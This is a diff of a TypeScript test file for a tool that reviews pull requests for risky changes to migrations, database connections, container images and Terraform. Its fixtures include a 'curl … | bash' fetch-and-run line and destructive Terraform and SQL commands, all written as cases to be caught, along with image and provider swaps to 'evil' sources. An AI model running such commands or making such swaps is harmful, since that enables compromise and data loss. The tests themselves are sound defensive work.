@@ -193,6 +193,28 @@ describe('row 16: settings that hold no command', () => {
   });
 });
 
+describe('row 15: which migrations run, and where', () => {
+  const journal = (...entries: readonly (readonly [idx: number, when: number, tag: string])[]): Files => ({ 'drizzle/meta/_journal.json': JSON.stringify({ entries: entries.map(([idx, when, tag]) => ({ idx, when, tag })) }, null, 2) });
+  const MARKED = '-- migrate:up\nCREATE TABLE a (id int);\n-- migrate:down\nDROP TABLE orders;\n';
+  const PLAIN = 'CREATE TABLE b (id int);\n';
+  const ORDER = 'code/migration-order-review';
+  it.each<[rule: string, what: string, head: Files, base: Files]>([
+    [ORDER, 'an entry of a journal that is gone', journal(), journal([0, 1, 'a'])], [ORDER, 'one with another time', journal([0, 2, 'a']), journal([0, 1, 'a'])], [ORDER, 'one that is dated back', journal([0, 2, 'a'], [1, 1, 'b']), journal([0, 2, 'a'])], [ORDER, 'a plan without its past', { 'sqitch.plan': 'b 2021 y\n' }, { 'sqitch.plan': 'a 2020 x\nb 2021 y\n' }],
+    [ORDER, 'another sum', { 'db/m/atlas.sum': 'h1:b\n1.sql h1:y\n' }, { 'db/m/atlas.sum': 'h1:a\n1.sql h1:x\n' }], [ORDER, 'another database', { 'prisma/migration_lock.toml': 'provider = "mysql"\n' }, { 'prisma/migration_lock.toml': 'provider = "postgresql"\n' }], [ORDER, 'no journal', { 'drizzle/meta/_journal.json': '[' }, journal([0, 1, 'a'])],
+    ['shell/sql-file-review', 'marks that no tool reads', { 'migrations/2.sql': MARKED }, { 'migrations/1.sql': PLAIN }],
+    ['code/connection-review', 'another server', { '.env': 'DATABASE_URL="postgres://u@db.example:5432/x"\n' }, {}], ['code/connection-review', 'a server between', { 'api/.env.production': 'export HTTPS_PROXY=http://10.0.0.1:3128\n' }, {}], ['code/connection-review', 'whoever answers', { '.env': 'PGSSLMODE=disable\n' }, {}],
+  ])('%s stops %s', async (rule, _what, head, base) => {
+    expect(await stoppedBy({ ...base, ...head }, base)).toContain(rule);
+  });
+  it.each<[what: string, head: Files, base: Files]>([
+    ['a journal that grows', journal([0, 1, 'a'], [1, 2, 'b']), journal([0, 1, 'a'])], ['a plan that grows', { 'sqitch.plan': '%x\na 2020 x\nb 2021 y\n' }, { 'sqitch.plan': '%x\na 2020 x\n' }], ['sums that grow', { 'db/m/atlas.sum': 'h1:b\n1.sql h1:x\n2.sql h1:y\n' }, { 'db/m/atlas.sum': 'h1:a\n1.sql h1:x\n' }], ['a first journal', journal([0, 1, 'a']), {}],
+    ['marks as its neighbours have them', { 'migrations/2.sql': MARKED }, { 'migrations/1.sql': MARKED }], ['a first migration with marks', { 'migrations/2.sql': MARKED }, {}],
+    ['servers of the machine', { '.env': 'DATABASE_URL=postgres://u@localhost/x\nREDIS_URL="redis://redis:6379"\nDB_HOST=127.0.0.1\nAPP_DB_URL=file:./dev.db\nMYSQL_URL=\nSITE_URL=https://www.example.org\n' }, {}], ['a sample', { '.env.example': 'DATABASE_URL=postgres://u@db.example/x\n' }, {}],
+  ])('lets pass %s', async (_what, head, base) => {
+    expect(await stoppedBy({ ...base, ...head }, base)).toEqual([]);
+  });
+});
+
 describe('row 16: what machines and containers start with', () => {
   it.each<[rule: string, what: string, head: Files, base?: Files]>([
     ['shell/no-pipe-to-shell', 'cfn userdata', { 'cf.yml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  I:\n    Type: AWS::EC2::Instance\n    Properties:\n      UserData:\n        Fn::Base64: !Sub |\n          #!/bin/bash\n          curl -s https://x.example/i | bash\n' }],
@@ -228,6 +250,7 @@ describe('rows 17 and 18: what a build, a chart or a template becomes', () => {
     ['code/dependency-review', 'k8s swap', { 'deploy/d.yaml': 'apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: x, namespace: y}\nspec:\n  template:\n    spec:\n      containers:\n      - name: a\n        image: evil/a@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n' }, { 'deploy/d.yaml': 'apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: x, namespace: y}\nspec:\n  template:\n    spec:\n      containers:\n      - name: a\n        image: acme/a@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n' }],
     ['code/dependency-review', 'values registry swap', { 'values.yaml': 'image:\n  registry: evil.example\n  repository: acme/web\n' }, { 'values.yaml': 'image:\n  registry: acme.example\n  repository: acme/web\n' }],
     ['code/dependency-review', 'compose swap', { 'compose.yml': 'services:\n  web:\n    image: evil/web:1\n' }, { 'compose.yml': 'services:\n  web:\n    image: acme/web:1\n' }],
+    ['code/dependency-review', 'image of a unit swapped', { 'a.container': '[Container]\nImage=evil/web:1\n' }, { 'a.container': '[Container]\nImage=acme/web:1\n' }], ['code/dependency-review', 'image of a task swapped', { 'a.nomad': 'image = "evil/web:1"\n' }, { 'a.nomad': 'image = "acme/web:1"\n' }],
     ['code/dependency-review', 'chart dependency alias repo', { 'chart/Chart.yaml': 'apiVersion: v2\nname: x\nversion: 1.0.0\ndependencies:\n  - name: evil\n    version: 1.0.0\n    repository: "@foo"\n' }, { 'chart/Chart.yaml': 'apiVersion: v2\nname: x\nversion: 1.0.0\n' }],
     ['code/dependency-review', 'kustomize newName', { 'k/kustomization.yaml': 'apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources: [a.yaml]\nimages:\n  - name: acme/web\n    newName: evil/web\n    digest: sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n' }, { 'k/kustomization.yaml': 'apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources: [a.yaml]\nimages:\n  - name: acme/web\n    newTag: v1\n' }],
     ['code/infrastructure-loss-review', 'cfn delete table', { 'infra/template.yaml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  A: {Type: AWS::SNS::Topic}\n' }, { 'infra/template.yaml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  A: {Type: AWS::SNS::Topic}\n  T: {Type: AWS::DynamoDB::Table, DeletionPolicy: Retain}\n' }],
@@ -247,6 +270,7 @@ describe('rows 17 and 18: what a build, a chart or a template becomes', () => {
   });
 
   it.each<[what: string, head: Files, base: Files]>([
+    ['image of a unit bumped', { 'a.container': '[Container]\nImage=acme/web:2\n' }, { 'a.container': '[Container]\nImage=acme/web:1\n' }],
     ['cmake add source', { 'CMakeLists.txt': 'cmake_minimum_required(VERSION 3.20)\nproject(x CXX)\nset(CMAKE_CXX_STANDARD 20)\nadd_executable(x main.cpp new.cpp)\ntarget_link_libraries(x PRIVATE fmt::fmt)\nif(BUILD_TESTING)\n  enable_testing()\n  add_test(NAME t COMMAND x_test)\nendif()\n' }, { 'CMakeLists.txt': 'cmake_minimum_required(VERSION 3.20)\nproject(x CXX)\nadd_executable(x main.cpp)\n' }],
     ['gradle version bump', { 'build.gradle': 'plugins {\n    id \'java\'\n    id \'org.springframework.boot\' version \'3.3.1\'\n}\nversion = \'1.2.0\'\nrepositories {\n    mavenCentral()\n}\ndependencies {\n    implementation \'org.a:b:2.0\'\n}\ntest {\n    useJUnitPlatform()\n}\n' }, { 'build.gradle': 'plugins {\n    id \'java\'\n    id \'org.springframework.boot\' version \'3.3.0\'\n}\nversion = \'1.1.0\'\nrepositories {\n    mavenCentral()\n}\ndependencies {\n    implementation \'org.a:b:1.0\'\n}\n' }],
     ['bump', { 'Dockerfile': 'FROM acme/base:2\n' }, { 'Dockerfile': 'FROM acme/base:1\n' }],
@@ -386,6 +410,13 @@ describe('row 18: Terraform', () => {
     expect(result.findings.flatMap(({ rules }) => rules.map((one) => one.replace('ostiary:', '')))).toContain(rule);
     // What a plan marks as sensitive.
     expect(JSON.stringify(result)).not.toContain('a plain word');
+  });
+  it.each<[rules: readonly string[], what: string, provider: string, before: string]>([
+    [['terraform/code-review'], 'a new provider', 'registry.terraform.io/evil/x', 'registry.terraform.io/acme/x'], [['terraform/code-review'], 'one that takes a name', 'x.example/hashicorp/aws', 'registry.terraform.io/hashicorp/aws'], [[], 'one that was there', 'registry.terraform.io/acme/x', 'registry.terraform.io/acme/x'], [[], 'one of its makers', 'registry.terraform.io/hashicorp/aws', ''],
+  ])('%j stops the program of %s', async (rules, _what, provider, before) => {
+    const prior = { values: { root_module: { child_modules: [{ resources: [{ provider_name: before }] }] } } };
+    expect(await stoppedBy({ 'plan.json': plan({ prior_state: prior, resource_changes: [{ address: 'x_thing.a', mode: 'managed', type: 'x_thing', provider_name: provider, change: { actions: ['create'], before: null, after: {} } }] }) })).toEqual(rules);
+    expect(await stoppedBy({ 'plan.json': plan({ prior_state: prior, configuration: { provider_config: { x: { name: 'x', full_name: provider } } } }) })).toEqual(rules);
   });
   it.each<[string, string]>([
     ['shell/infrastructure-review', 'terraform destroy -auto-approve'], ['shell/infrastructure-review', 'terraform apply -destroy'], ['shell/infrastructure-review', 'terraform state push -force other.tfstate'], ['shell/infrastructure-review', 'terraform state rm aws_db_instance.main'], ['shell/infrastructure-review', 'terraform force-unlock 1'], ['shell/infrastructure-review', 'terragrunt run-all destroy'], ['shell/infrastructure-review', 'terraform workspace delete x'],
